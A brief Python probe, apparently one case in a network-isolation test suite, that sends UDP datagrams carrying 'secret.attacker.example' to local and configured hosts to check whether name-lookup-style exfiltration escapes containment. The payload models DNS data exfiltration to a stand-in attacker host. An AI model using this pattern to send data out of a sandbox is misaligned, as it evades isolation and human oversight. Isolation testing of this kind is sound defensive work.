"""Class 25. Sends datagrams to services of this machine, as a name lookup would.

A breach: one arrives.
"""

import os
import socket
from contextlib import suppress

port = int(os.environ["AIM_UDP"])
for host in ["127.0.0.1", *os.environ["AIM_HOSTS"].split()]:
    with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"secret.attacker.example", (host, port))
with suppress(OSError), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as six:
    six.sendto(b"secret.attacker.example", ("::1", port))
